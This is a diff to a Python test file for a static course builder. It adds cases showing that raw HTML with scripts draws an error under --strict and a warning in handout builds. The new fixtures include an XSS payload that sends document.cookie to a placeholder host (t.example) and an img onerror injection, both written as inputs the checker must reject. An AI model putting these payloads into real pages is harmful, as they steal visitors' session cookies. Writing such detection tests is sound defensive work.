@@ -190,6 +190,10 @@ OFFLINE_HINT = "put the file in the theme's static/ folder and name it relative 
 RAW_HINT = "download the file into media/ and name it there; a link (<a href>) may point to the web"
 
 
+SCRIPTED = ("raw HTML runs a script: the builder cannot check that it loads nothing from the network (remove the "
+            "script if you can; --strict refuses it)")
+
+
 def raw_html(line: int, url: str) -> str:
     return (f"tiny/{INTRO}:{line}:1: error: raw HTML loads {url} from the network; the course must work "
             f"offline ({RAW_HINT})")
@@ -468,6 +472,12 @@ CASES = [
          expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/'"))),
     case("raw-html-link-is-fine", ALLOW_HTML, raw('<a href="https://example.org/">a page on the web</a>'),
          code=0, expect=()),
+    case("raw-html-script-strict", ALLOW_HTML, raw('<script>fetch("https://t.example/?" + document.cookie)</script>'),
+         command=("check", "tiny", "--strict"),
+         expect=failed(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: error: {SCRIPTED}")),
+    case("raw-html-event-handler-strict", ALLOW_HTML, raw('<p>x <img src="x.png" onerror="fetch(1)"></p>'),
+         command=("check", "tiny", "--strict"),
+         expect=failed(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: error: {SCRIPTED}")),
     case("template-loads-script", Template('<script src="https://cdn.example/x.js"></script>'),
          expect=failed("tiny/theme/templates/course.html:1:1: error: the generated page loads "
                        "'https://cdn.example/x.js' from the network (line 3, column 9 of the page); the course must "
@@ -479,7 +489,8 @@ CASES = [
 
     # --- 7. the handout runs no script -------------------------------------------------------------
     case("handout-runs-no-script", ALLOW_HTML, DEFAULT_THEME, raw("<script>alert(1)</script>"),
-         command=("build", "tiny", "--out", "out", "--facilitator"), code=0, expect=(), after=has_no_scripts),
+         command=("build", "tiny", "--out", "out", "--facilitator"), code=0, after=has_no_scripts,
+         expect=(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: warning: {SCRIPTED}",)),
 
     # --- 9. size guard --------------------------------------------------------------------------------
     case("huge-lesson", Big(INTRO, "---\ntitle: Huge\n---\n\n", "A line of a very long lesson.\n", 50_000_000),
